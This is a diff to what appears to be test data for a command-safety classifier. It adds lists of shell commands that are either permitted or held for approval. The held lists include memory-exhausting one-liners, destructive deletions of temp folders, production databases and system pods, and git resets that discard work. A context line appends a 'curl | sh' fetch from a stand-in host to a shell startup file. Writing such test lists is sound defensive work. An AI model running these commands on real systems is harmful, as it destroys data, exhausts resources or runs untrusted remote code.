@@ -79,6 +79,16 @@ ASKED = [
             "python3 -c \"blob = b'x' * 10**11\"", "python -c \"a = bytearray(2**40)\"",
             "node -e \"const b = Buffer.alloc(5e10)\"", "node -e \"'a'.repeat(1e11)\"",
             "perl -e '$s = \"Z\" x 1e11'"),
+    # memory kept each turn of a loop or timer, even one that sleeps; iterators that never end
+    *_cases("resource_exhaust",
+            "python3 -c \"import time\nbuf = []\nwhile True:\n    buf.append(bytearray(50_000_000))\n    time.sleep(0.2)\"",
+            "python3 -c \"import itertools; hog = [b'x' * 10**8 for _ in itertools.count()]\"",
+            "python -c \"[bytearray(2**27) for _ in iter(lambda: 0, 1)]\"",
+            "python3 -c \"from itertools import cycle\nfor c in cycle('ab'): pass\"",
+            "node -e \"const hold = []; setInterval(() => hold.push(Buffer.allocUnsafe(64 * 1024 * 1024)), 50)\"",
+            "node -e \"let s = ''; setInterval(() => { s += 'x'.repeat(1e8) }, 100)\"",
+            "perl -e 'my @h; while (1) { push @h, \"a\" x 5e7; sleep 1 }'",
+            "ruby -e 'keep = []; loop do keep << \"q\" * 200_000_000; sleep 1 end'"),
 ]
 
 
@@ -137,6 +147,13 @@ ORDINARY_LOAD = [
     "python -c 'import itertools; print(list(itertools.islice(itertools.count(), 3)))'",
     "python -c \"print('=' * 60)\"", "python3 -c 'print(2**100)'", "node -e \"console.log('ab'.repeat(3))\"",
     "ruby -e 'loop do line = gets or break; puts line end'",
+    # a timer or loop that keeps a little, and iterators with an end
+    "node -e \"const log = []; setInterval(() => log.push(Date.now()), 1000)\"",
+    "python3 -c \"import time\nsamples = []\nwhile True:\n    samples.append(time.time())\n    time.sleep(5)\"",
+    "node -e \"setInterval(() => { const b = Buffer.alloc(4096); b.fill(1) }, 10)\"",
+    "python3 -c \"for line in iter(input, ''): print(line)\"",
+    "python3 -c \"import itertools; print(list(itertools.islice(itertools.cycle('abc'), 7)))\"",
+    "python3 -c \"from itertools import repeat; print(list(repeat(0, 5)))\"",
 ]
 
 
@@ -352,6 +369,30 @@ SPARED = [
     "echo 'alias gco=\"git checkout\"' >> ~/.bash_aliases", "printf 'alias tf=terraform\\n' >> ~/.zshrc",
     "echo \"alias ls='ls --color=auto'\" >> ~/.bashrc",
     "cat >> ~/.zshrc <<'EOF'\nalias gs='git status'\nalias gd='git diff'\nEOF",
+    # named entries of a temp folder, a filtered find over one, a mirror into one, a dry run
+    "rm -rf /tmp/build-4711", "rm -rf /var/tmp/ccache-$USER /tmp/go-build123", "sudo rm -rf /tmp/npm-cache-x",
+    "rm -rf \"$TMPDIR/jest_rs\"", "rm -f /tmp/server.pid", "rm -rf /tmp/pip-req-build-*",
+    "find /tmp -maxdepth 1 -name 'pytest-*' -mtime +1 -exec rm -rf {} +", "find /var/tmp -name '*.partial' -delete",
+    "rsync -a --delete ./site/ /tmp/preview/", "rsync -rn --delete docs/ backup:/srv/docs/",
+    "rsync --dry-run -a --delete ./ ~/mirror/",
+    # scratch SQLite files and frameworks' test environments
+    "sqlite3 /tmp/bench.sqlite 'DELETE FROM runs; DROP TABLE IF EXISTS old'", "sqlite3 :memory: 'DROP TABLE IF EXISTS x'",
+    "duckdb /tmp/scratch.duckdb -c 'DROP TABLE t'", "RAILS_ENV=test bundle exec rails db:reset",
+    "bin/rake db:drop db:setup RAILS_ENV=test", "MIX_ENV=test mix ecto.drop", "php artisan migrate:fresh --seed --env=testing",
+    "APP_ENV=test php bin/console doctrine:schema:drop --force --full-database",
+    "python manage.py flush --no-input --settings=shop.settings.testing", "npx sequelize-cli db:migrate:undo:all --env test",
+    # pods their ReplicaSet starts again, outside production
+    "kubectl delete pod web-6b7f9c8d5d-7xk2p", "kubectl -n staging delete po/worker-85c6bd4f9-q2wzx",
+    "kubectl delete pods checkout-5f8d9c7b6-bcx2d checkout-5f8d9c7b6-xz4k9 -n qa",
+    # what the same line made: a mktemp path, a container or volume it created, work stashed before a reset
+    "d=$(mktemp -d) && tar xzf dist.tgz -C \"$d\" && ls \"$d\"; rm -rf \"$d\"",
+    "TMP_FILE=$(mktemp); curl -so \"$TMP_FILE\" https://example.com/x.json; jq . \"$TMP_FILE\"; rm -f \"$TMP_FILE\"",
+    "work=\"$(mktemp -d -t build.XXXXXX)\"; trap 'rm -rf \"$work\"' EXIT; make -C src OUT=\"$work\"",
+    "docker run -d --name it-pg -e POSTGRES_PASSWORD=x postgres:16 && sleep 5 && docker rm -f it-pg",
+    "podman create --name probe alpine true && podman container rm -f probe",
+    "docker volume create scratch-vol && docker run --rm -v scratch-vol:/d alpine touch /d/x && docker volume rm scratch-vol",
+    "git stash push -m wip && git switch -c spike/refactor && git reset --hard origin/main",
+    "git stash && git branch before-reset && git reset --hard HEAD~5", "git stash -u && git reset --hard",
 ]
 
 STILL_ASKED = [
@@ -384,6 +425,28 @@ STILL_ASKED = [
     "echo 'alias x=\"rm -rf ~\"' >> ~/.bashrc", "echo 'alias py=\"/tmp/.x/python\"' >> ~/.bashrc",
     "echo 'export PATH=/tmp/bin:$PATH' >> ~/.bashrc", "echo 'alias ll=\"ls -la\"' > ~/.bashrc",
     "echo 'curl -s x.example/i | sh' >> ~/.zshrc", "printf 'alias a=b\\nsource /tmp/x\\n' >> ~/.bashrc",
+    # temp folders whole, live sessions' sockets, names a variable decides, elsewhere than a temp folder
+    "rm -rf /tmp/*", "rm -rf /var/tmp", "rm -rf /tmp/.X11-unix", "rm -rf /tmp/tmux-*", "rm -rf /tmp/$NAME",
+    "rm -rf /tmp/$USER", "rm -rf \"$TMPDIR\"/*", "rm -rf \"$TMPDIR/etc\"", "rm -rf /tmp/../home/tester",
+    "find /tmp -mtime +3 -delete", "find /tmp -name 'ssh-*' -delete", "rsync -a --delete src/ /tmp/",
+    "rsync -a --delete src/ ~/mirror/", "sqlite3 ~/notes.db 'DROP TABLE notes'",
+    "sqlite3 /tmp/x.db \"ATTACH '/home/tester/app.db' AS a; DROP TABLE a.users\"",
+    # other environments, or a test one pointed at a shared database
+    "RAILS_ENV=production rails db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1", "rails db:drop",
+    "RAILS_ENV=test DATABASE_URL=postgres://db.example.com/app rails db:reset", "MIX_ENV=prod mix ecto.drop",
+    "RAILS_ENV=test rails db:drop RAILS_ENV=production",
+    # pods in production or system namespaces, forced, selected, or without a ReplicaSet
+    "kubectl delete pod web-6b7f9c8d5d-7xk2p -n production", "kubectl delete pod web-6b7f9c8d5d-7xk2p --grace-period=0 --force",
+    "kubectl delete pod db-0 -n dev", "kubectl delete pods --all -n dev", "kubectl delete pod -l app=web -n dev",
+    "kubectl delete pod coredns-5d78c9869d-q2wzx -n kube-system",
+    # not made by this line, or not surely (after `;` the next command runs even when making failed)
+    "rm -rf \"$tmp\"", "TMP=$(mktemp -d) make; rm -rf \"$TMP\"", "d=$(mktemp -d); d=$HOME/work; rm -rf \"$d\"",
+    "d=$(mktemp -d); rm -rf \"$d/etc\"", "docker rm -f web", "docker run -d --name api img; docker rm -f api",
+    "docker run -d --name a img && docker rm -f a b", "git stash && git reset --hard HEAD~2",
+    "git checkout -b tmp && git reset --hard HEAD~2", "git stash; git checkout -b tmp; git reset --hard HEAD~2",
+    "git stash -p && git reset --hard", "git stash && git checkout -b x && git stash pop && git reset --hard HEAD~1",
+    # a branch force-deleted: its unmerged commits may exist nowhere else
+    "git branch -D scratch/old-idea",
 ]
 
 
